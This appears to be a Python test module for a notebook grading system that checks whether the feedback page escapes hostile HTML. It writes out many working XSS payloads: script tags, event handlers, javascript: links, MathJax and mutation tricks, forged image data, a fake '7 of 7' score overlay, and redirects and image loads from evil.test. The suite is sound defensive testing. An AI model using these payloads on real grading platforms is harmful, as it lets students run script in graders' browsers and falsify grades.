"""HTML and scripts in prose, in outputs and in messages, which the feedback page or Formgrader would run."""

from nbformat import v4

from cheats import FORGER, answer, first, holds, last, page, prose, proves, said, told

SCRIPT = "<script>pwned()</script>"


@proves(page("pwned()"))
def script_in_prose(notebook, folder):
    """A script, a handler, a frame, a form and a style in a prose cell."""
    prose(notebook, f"# Hi {SCRIPT}\n<img src=x onerror=pwned()>\n<svg onload=pwned()><body onload=pwned()>")
    prose(
        notebook,
        "<iframe srcdoc='<script>pwned()</script>'></iframe><form action=//evil.test><input type=submit></form>",
    )
    prose(
        notebook,
        "<style>body{display:none}</style><meta http-equiv=refresh content='0;url=//evil.test'><base href=//evil.test>",
    )


@proves(holds(lambda notebook: "javascript:pwned()" in notebook.cells[-2].source))
def script_addresses_in_prose(notebook, folder):
    """javascript: and data: addresses in links, pictures and maps."""
    prose(notebook, "[x](javascript:pwned()) ![x](javascript:pwned()) <a href='java\tscript:pwned()'>x</a>")
    prose(notebook, "<a href='data:text/html,<script>pwned()</script>'>x</a> <area href=javascript:pwned()>")


@proves(said, page("javascript:pwned()"))
def script_in_formulas(notebook, folder):
    """MathJax makes links and classes of formulas."""
    prose(
        notebook,
        r"$\href{javascript:pwned()}{7}$ $\unicode{<script>pwned()</script>}$ \(\style{x:expression(pwned())}{1}\)",
    )
    last(
        notebook,
        r"""
        from IPython.display import Latex
        acted()
        Latex(r"$\href{javascript:pwned()}{7}$ <script>pwned()</script>")
    """,
    )


@proves(page("pwned()"))
def script_in_markdown_tricks(notebook, folder):
    """Scripts in code blocks, comments, tables, broken tags and after the end of the cell's own markup."""
    prose(notebook, f"```\n</code></pre>{SCRIPT}\n```\n`</code>{SCRIPT}`")
    prose(
        notebook,
        f"<!-- --!>{SCRIPT} --> </div></div>{SCRIPT} <scr<script>ipt>pwned()</script>"
        f"<noscript><p title='</noscript>{SCRIPT}'>",
    )
    prose(
        notebook,
        "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>",
    )


@proves(page("7 of 7"))
def page_over_the_page(notebook, folder):
    """A block that covers the page and shows other points."""
    prose(
        notebook,
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:white'>7 of 7</div>",
    )


@proves(holds(lambda notebook: "//evil.test/z.css" in notebook.cells[-1].source))
def pictures_from_elsewhere(notebook, folder):
    """A picture from another server tells it who looks at the page."""
    prose(
        notebook,
        "![x](https://evil.test/x.png) <img src='//evil.test/y.png'> <link rel=stylesheet href=//evil.test/z.css>",
    )


def html_outputs(notebook, folder):
    """Outputs of the types html, javascript, svg, markdown, pdf and of invented ones."""
    last(
        notebook,
        f"""
        from IPython.display import HTML, SVG, Javascript, Markdown, display
        acted()
        display(HTML({SCRIPT!r}), Markdown("<img src=x onerror=pwned()>"), Javascript("pwned()"))
        display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'></svg>"))
        display({{"text/html": "{SCRIPT}", "application/vnd.x+json": "x", "application/pdf": "x"}}, raw=True)
    """,
    )


def forged_pictures(notebook, folder):
    """The bytes of a picture end its tag and open another."""
    last(
        notebook,
        FORGER
        + """
break_out = 'x" onerror="pwned()"><script>pwned()</script><img src="'
data = {"image/png": break_out, "image/jpeg": break_out, "image/svg+xml": "<svg onload=pwned()>"}
metadata = {"image/png": {"alt": break_out, "width": break_out}}
wire.send(grader, {"outputs": [said, {"output_type": "display_data", "data": data, "metadata": metadata}]})
""",
    )


@proves(told("pwned()"))
def html_in_messages(notebook, folder):
    """Names and messages of exceptions are HTML, with terminal colours around it."""
    answer(
        notebook,
        f"""
        class Evil(Exception):
            pass
        Evil.__name__ = {SCRIPT!r}
        def double(x):
            raise Evil("\\x1b[31m{SCRIPT}\\x1b]8;;javascript:pwned()\\x07click\\x1b]8;;\\x07")
    """,
    )
    answer(notebook, f"def mean_row(x):\n    raise KeyError({SCRIPT!r})", "mean_row")
    last(notebook, f"raise Evil({SCRIPT!r})")


@proves(page("pwned()"))
def html_in_code(notebook, folder):
    """Code that ends the block in which it is shown, and a raw cell."""
    first(notebook, f"# </pre></div>{SCRIPT}\n'''</script>{SCRIPT}'''")
    notebook.cells.append(v4.new_raw_cell(SCRIPT, metadata={"raw_mimetype": "text/html", "format": "text/html"}))


@proves(holds(lambda notebook: SCRIPT in notebook.metadata.get("title", "")))
def html_in_metadata(notebook, folder):
    """Titles, authors, languages, attachments and widget states are HTML."""
    notebook.metadata |= {"title": f"</title>{SCRIPT}", "authors": [{"name": SCRIPT}]}
    notebook.metadata["language_info"] = {"name": f"x'>{SCRIPT}", "pygments_lexer": "html"}
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "x": f"</script>{SCRIPT}"}
    }
    picture = v4.new_markdown_cell("![x](attachment:x.png)")
    picture["attachments"] = {"x.png": {"image/png": f'x"onerror="pwned()">{SCRIPT}'}}
    notebook.cells.append(picture)
